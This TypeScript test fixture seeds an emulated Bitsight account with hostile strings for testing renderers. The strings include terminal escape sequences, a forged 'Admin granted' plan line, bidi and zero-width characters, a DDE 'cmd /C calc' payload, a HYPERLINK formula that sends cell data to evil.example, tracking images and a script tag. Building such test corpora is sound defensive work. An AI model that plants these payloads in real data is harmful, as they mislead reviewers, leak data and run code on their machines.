// The emulator's hostile account: what anyone can type into the Bitsight UI (every user
// edits their own name; Admins name access groups) chosen to forge what a reviewer reads:
// terminal escape sequences, a newline that fakes a plan line, bidirectional and
// zero-width characters, spreadsheet formulas, markdown images, HTML and links. Every
// text field the API returns carries one. Case-twin emails are added by `addCaseTwin`,
// apart, because they make every whole-account command refuse to run.
import type { Account, StoredUser } from "./account";
import { GROUPS, seededAccount, SEEDED } from "./seed";
import type { Quirks } from "./account";

/** One corpus for every renderer's test and every command's. */
export const HOSTILE = {
    forgedLine: "Mallory\n  + mallory@example.com: Admin granted (customer_user -> customer_admin)",
    setTitle: "\x1b]0;all reviewed\x07Title",
    clearScreen: "\x1b[2J\x1b[HClear",
    conceal: "Eve \x1b[8mhidden",
    rightToLeft: "\u202emoc.elpmaxe\u202c",
    zeroWidth: "Zero\u200bWidth",
    lineSeparator: "one\u2028two",
    hyperlink: '=HYPERLINK("http://evil.example/?"&A3,"Open report")',
    dde: "@SUM(1+1)*cmd|' /C calc'!A0",
    formula: "=1+1",
    plus: "+1",
    minus: "-1",
    tab: "\tTab",
    carriageReturn: "\rCR",
    image: "![i](http://evil.example/p.png)",
    html: '<img src="http://evil.example/p.png"> <script>alert(1)</script>',
    link: "[Open report](http://evil.example)",
    table: "a|b `c` *d* _e_",
    mention: "@security-team #1",
    autolink: "www.evil.example http://evil.example/x",
    quoted: 'say "hi" \\n',
} as const;

export type HostileKey = keyof typeof HOSTILE;
export const HOSTILE_STRINGS: readonly string[] = Object.values(HOSTILE);

export const HOSTILE_GROUP = { guid: "a0000000-0000-4000-8000-0000000000ee", name: HOSTILE.image };

/** GUIDs of the undeclared hostile users, one per corpus entry, in corpus order. */
export function hostileGuid(i: number): string {
    return `d0000000-0000-4000-8000-${(i + 1).toString(16).padStart(12, "0")}`;
}

/**
 * The sample account with hostile strings in every text field: Bob's name in the UI is a
 * forged plan line, a role's name clears the screen, a group is a tracking image, and one
 * undeclared user per corpus entry carries it as names, email, status and last login.
 */
export function hostileAccount(quirks: Partial<Quirks> = {}): Account {
    const a = seededAccount(quirks);
    a.groups.push(HOSTILE_GROUP);
    a.roleNames["customer_user"] = HOSTILE.clearScreen;
    const bob = a.users.get(SEEDED.bob)!;
    bob.formal_name = HOSTILE.forgedLine;
    bob.friendly_name = HOSTILE.setTitle;
    a.users.get(SEEDED.carol)!.group = HOSTILE_GROUP.guid;
    HOSTILE_STRINGS.forEach((s, i) => {
        a.addUser({
            guid: hostileGuid(i),
            email: `${s}@example.com`,
            formal_name: s,
            friendly_name: s,
            group: i % 3 === 0 ? HOSTILE_GROUP.guid : GROUPS.all.guid,
            // The API's status and times are strings too: nothing says they are well formed.
            status: (i % 4 === 1 ? `Activated${s}` : "Activated") as StoredUser["status"],
            last_login_time: i % 5 === 2 ? `${s}2026-11-01T00:00:00Z` : "2026-11-01T00:00:00Z",
            roles: i === 3 ? [s] : ["customer_user"],
        });
        // A company API token's words come from whoever created it: every hostile string as a description, a creator and a group.
        a.apiTokens.push({
            guid: `d0000000-0000-4000-8000-${String(100 + i).padStart(12, "0")}`,
            description: s,
            token: `hostile-token-${i}-0000`,
            created_date: "2026-01-01T00:00:00Z",
            creator_name: s,
            group: s,
            roles: [{ display_name: s, slug: i === 2 ? s : "customer_admin" }],
        });
    });
    return a;
}

/** A second user whose email differs from `guid`'s only in case. */
export function addCaseTwin(a: Account, guid: string, twinGuid = "d0000000-0000-4000-8000-0000000000ff"): StoredUser {
    const original = a.users.get(guid)!;
    const email = original.email.replace(/^./, (c) => c.toUpperCase());
    return a.addUser({ guid: twinGuid, email, formal_name: "Twin", friendly_name: "Twin", role: "customer_admin", last_login_time: "2026-11-25T00:00:00Z" });
}
